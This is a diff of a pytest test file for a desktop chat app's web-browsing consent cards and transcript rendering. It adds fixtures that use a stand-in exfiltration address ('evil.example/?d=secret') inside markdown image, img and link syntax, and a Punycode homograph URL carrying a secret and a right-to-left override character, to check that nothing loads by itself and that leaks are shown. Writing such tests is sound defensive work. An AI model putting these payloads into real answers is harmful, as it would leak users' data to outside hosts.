@@ -2,18 +2,22 @@
 
 from __future__ import annotations
 
+import socket
+
 import pytest
-from PySide6.QtWidgets import QAbstractButton, QLabel, QLineEdit, QWidget
+from PySide6.QtWidgets import QAbstractButton, QApplication, QLabel, QLineEdit, QWidget
 
 from app.base.pages.stored_page import Page, PageKind, StoredDisplay, pack
-from app.base.types import Delta, Part, PartAdded, PartKind, Prompt, ResultFacts
+from app.base.types import Part, PartKind, ResultFacts
+from app.formats import Abilities
 from app.tools.browser.policy import ChatFacts, WebVerdict, judge_open, judge_search, web_proposal
 from app.tools.tool import Call
-from app.tools.tool_events import CallStarted, Consent, ConsentAsked, Decision
+from app.tools.tool_events import Consent
 from app.ui.conversation.consent_card import ConsentCard, ProposalText
 from app.ui.conversation.transcript import Transcript
 from app.ui.theme import Theme
-from tests.ui.driver import Fireside, done, said, thought
+from tests.fakes.browsing import BrowsingModel, MemorySource, open_, page
+from tests.ui.driver import Fireside
 from tests.ui.test_tool_rows import buttons, called, show
 
 RESULTS = """[0] copper
@@ -91,98 +95,140 @@ def test_a_row_without_a_page_shows_what_was_returned(transcript: Transcript) ->
     assert not buttons(transcript, "rawOutput")
 
 
+def test_nothing_in_an_answer_loads_by_itself(
+    transcript: Transcript, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    reached: list[object] = []
+    monkeypatch.setattr(socket, "getaddrinfo", lambda *place, **more: reached.append(place))
+    monkeypatch.setattr(socket.socket, "connect", lambda self, place: reached.append(place))
+    address = "https://evil.example/?d=secret"
+    show(transcript, Part(f"![so]({address}) <img src='{address}'> [see]({address})"))
+    QApplication.processEvents()
+    assert "see" in transcript.plainText()
+    assert reached == []
+
+
 # --- Questions --------------------------------------------------------------------------------
+
+LEAK = "https://xn--80ak6aa92e.com/?d=my%20secret%E2%80%AE" + "x" * 1000
 
 
 @pytest.fixture
-def calm(monkeypatch: pytest.MonkeyPatch) -> None:
+def web() -> MemorySource:
+    linked = page("https://c.example/", "C", "The page C.")
+    first = page("https://a.example/b", "B", "The page B, see {c}.", c=linked.address)
+    return MemorySource("web", "web", [first, linked])
+
+
+@pytest.fixture
+def browsing(fireside: Fireside, web: MemorySource, monkeypatch: pytest.MonkeyPatch) -> Fireside:
+    """Return a window in which the web is on; all that is on the way to it is real."""
     monkeypatch.setattr(ConsentCard, "CALM_MS", 80)
-
-
-def ask(fireside: Fireside, verdict: WebVerdict) -> Consent:
-    """Ask something in the chat that is shown, about whose call the user is asked."""
-    call = Call("1", "browser.open", '{"id": "…"}')
-    proposal = web_proposal(call, verdict)
-    assert verdict.reason
-    consent = Consent("q", proposal, verdict.reason, lasting=verdict.lasting)
-    delta = Delta(1, call.arguments, PartKind.CALL, call.name, "1")
-    fireside.ask(
-        "find", Prompt(80, 4096), thought("hm"), delta, ConsentAsked(1, consent), consent,
-        CallStarted(1, proposal), PartAdded(returned("ok", "1", "open")), said("Done.", 3), done(),
+    fireside.host.browsing.sources = lambda: (web,)
+    model = BrowsingModel(
+        open_(LEAK), "No.", open_("https://a.example/b?x"), open_("https://A.example/b"), "Yes.",
+        open_(0), "Read it.",
     )  # fmt: skip
-    fireside.until(lambda: card(fireside))
-    return consent
+    fireside.backend.stream = model.stream  # type: ignore[method-assign]
+    fireside.backend.abilities = lambda model: Abilities(tools=True)  # type: ignore[method-assign]
+    tools = fireside.window.tools
+    tools.refresh()
+    fireside.until(lambda: "web" in [offer.key for offer in tools.shown])
+    tools.switch("web", on=True)
+    return fireside
 
 
-def card(fireside: Fireside) -> ConsentCard | None:
-    cards = fireside.window.findChildren(ConsentCard)
-    return next((each for each in cards if each.isVisible()), None)
+def card(fireside: Fireside) -> ConsentCard:
+    def visible() -> list[ConsentCard]:
+        cards = fireside.window.findChildren(ConsentCard)
+        return [each for each in cards if each.isVisible()]
+
+    fireside.until(visible)
+    return visible()[0]
 
 
-def label(fireside: Fireside, name: str) -> str:
-    """Return the text of a label in the card, empty if it is not shown."""
-    shown = card(fireside)
-    found = shown.findChild(QLabel, name) if shown else None
-    return found.text().replace("\u200b", "") if found and found.isVisible() else ""
+def label(card: ConsentCard, name: str) -> str:
+    """Return the text of a label in a card, empty if it is not shown."""
+    found = card.findChild(QLabel, name)
+    return found.text().replace("\u200b", "") if found and not found.isHidden() else ""
 
 
-def offered(fireside: Fireside) -> dict[str, str]:
-    shown = card(fireside)
-    assert shown
-    stops = [stop for stop in shown.stops() if isinstance(stop, QAbstractButton)]
-    return {stop.objectName(): stop.text() for stop in stops if stop.isVisible()}
+def offered(card: ConsentCard) -> dict[str, str]:
+    stops = [stop for stop in card.stops() if isinstance(stop, QAbstractButton)]
+    return {stop.objectName(): stop.text() for stop in stops if not stop.isHidden()}
 
 
-def decide(fireside: Fireside, consent: Consent, name: str) -> Decision | None:
+def text_of(card: ConsentCard) -> str:
+    text = card.findChild(ProposalText, "proposalText")
+    assert text
+    return text.document().toPlainText()
+
+
+def decide(fireside: Fireside, name: str) -> None:
     button = fireside.find(QAbstractButton, name)
     assert not button.isEnabled()
     button.click()
-    assert consent.decision is None
     fireside.until(button.isEnabled)
     button.click()
-    fireside.idle()
-    return consent.decision
 
 
-@pytest.mark.usefixtures("calm")
-def test_a_question_about_an_address_shows_its_site_and_what_it_sends(fireside: Fireside) -> None:
-    address = "https://xn--80ak6aa92e.com/?d=my%20secret%E2%80%AE" + "x" * 1000
-    consent = ask(fireside, judge_open(address, ChatFacts()))
-    shown = card(fireside)
-    assert shown
+def test_a_question_about_an_address_shows_its_site_and_what_it_sends(
+    browsing: Fireside, web: MemorySource
+) -> None:
+    browsing.ask("Hi")
+    shown = card(browsing)
     assert shown.accessibleName() == "Open a page of xn--80ak6aa92e.com?"
     assert "“аррӏе.com”" in shown.accessibleDescription()
-    assert label(fireside, "consentQuestion") == "Open a page of this site?"
-    assert label(fireside, "consentSite") == "xn--80ak6aa92e.com"
-    assert "“аррӏе.com”" in label(fireside, "consentScript")
-    assert label(fireside, "consentReason").startswith("You didn’t type this address")
-    text = fireside.find(ProposalText, "proposalText").document().toPlainText()
-    assert text == f"Address\n{address}\nSends “d”\nmy secret⟨U+202E⟩" + "x" * 1000
-    assert f"Sends “d”: my secret\u202e{'x' * 1000}" in fireside.text()
-    assert offered(fireside) == {
+    assert label(shown, "consentQuestion") == "Open a page of this site?"
+    assert label(shown, "consentSite") == "xn--80ak6aa92e.com"
+    assert "“аррӏе.com”" in label(shown, "consentScript")
+    assert label(shown, "consentReason").startswith("You didn’t type this address")
+    assert text_of(shown) == f"Address\n{LEAK}\nSends “d”\nmy secret⟨U+202E⟩{'x' * 1000}"
+    assert f"Sends “d”: my secret\u202e{'x' * 1000}" in browsing.text()
+    assert offered(shown) == {
         "approve": "Open once",
         "approveAlways": "Always this site in this chat",
         "refuse": "Don’t open",
     }
-    words = fireside.find(QLineEdit, "refuseWords")
+    words = browsing.find(QLineEdit, "refuseWords")
     assert words.accessibleName() == "Words for the model, sent with “Don’t open”"
-    assert decide(fireside, consent, "approveAlways") is Decision.CHAT
-    consent = ask(fireside, judge_open("https://a.example/", ChatFacts()))
-    assert label(fireside, "consentSite") == "a.example"
-    assert not label(fireside, "consentScript")
-    assert decide(fireside, consent, "refuse") is Decision.REFUSE
+    decide(browsing, "refuse")
+    browsing.shows("No.")
+    browsing.idle()
+    assert web.asked == []
+    browsing.ask("And that?")
+    assert label(card(browsing), "consentSite") == "a.example"
+    assert not label(card(browsing), "consentScript")
+    decide(browsing, "approveAlways")
+    browsing.shows("Yes.")
+    browsing.idle()
+    assert web.asked == [("open", "https://a.example/b?x"), ("open", "https://a.example/b")]
+    (row,) = browsing.stored(lambda store: store.consents.all())
+    assert (row.chat, row.function, row.pin) == (browsing.chat, "open a.example", "a.example")
+    browsing.window.transcript.messages.records[-1].set_opened(True)
+    assert "Open a.example · failed · You allowed this in this chat" in browsing.text()
+    assert "Read “B” · a.example" in browsing.text()
+    browsing.ask("And its link?")  # what was displayed comes from the store
+    browsing.shows("Read it.")
+    assert web.asked[2:] == [("open", "https://c.example/")]
 
 
-@pytest.mark.usefixtures("calm")
-def test_a_question_about_a_search_shows_its_words(fireside: Fireside) -> None:
-    verdict = judge_search("4111 1111 1111 1111", ChatFacts(private=True))
-    consent = ask(fireside, verdict)
-    assert label(fireside, "consentQuestion") == "Search the web for this?"
-    assert not label(fireside, "consentSite")
-    text = fireside.find(ProposalText, "proposalText").document().toPlainText()
-    assert text == "Search words\n4111 1111 1111 1111"
-    assert offered(fireside) == {"approve": "Search", "refuse": "Don’t search"}
-    assert decide(fireside, consent, "approve") is Decision.ONCE
+def asked(transcript: Transcript, theme: Theme, verdict: WebVerdict) -> ConsentCard:
+    """Return a card that asks about something."""
+    shown = ConsentCard(theme, transcript)
+    assert verdict.reason
+    proposal = web_proposal(Call("1", "browser.open", ""), verdict)
+    shown.set_consent(Consent("q", proposal, verdict.reason, lasting=verdict.lasting), 0)
+    shown.show()
+    return shown
+
+
+def test_a_question_about_a_search_shows_its_words(transcript: Transcript, theme: Theme) -> None:
+    shown = asked(transcript, theme, judge_search("4111 1111 1111 1111", ChatFacts(private=True)))
+    assert label(shown, "consentQuestion") == "Search the web for this?"
+    assert not label(shown, "consentSite")
+    assert text_of(shown) == "Search words\n4111 1111 1111 1111"
+    assert offered(shown) == {"approve": "Search", "refuse": "Don’t search"}
 
 
 @pytest.mark.parametrize("width", [220, 900])
@@ -190,12 +236,7 @@ def test_a_long_name_of_a_site_is_shown_whole(
     transcript: Transcript, theme: Theme, width: int
 ) -> None:
     site = ".".join(["paypal-com"] * 20) + ".example"
-    shown = ConsentCard(theme, transcript)
-    verdict = judge_open(f"https://{site}/", ChatFacts())
-    proposal = web_proposal(Call("1", "browser.open", ""), verdict)
-    assert verdict.reason
-    shown.set_consent(Consent("q", proposal, verdict.reason, lasting=True), 0)
-    shown.show()
+    shown = asked(transcript, theme, judge_open(f"https://{site}/", ChatFacts()))
     shown.resize(width, shown.height_for(width))
     name = shown.findChild(QLabel, "consentSite")
     assert name
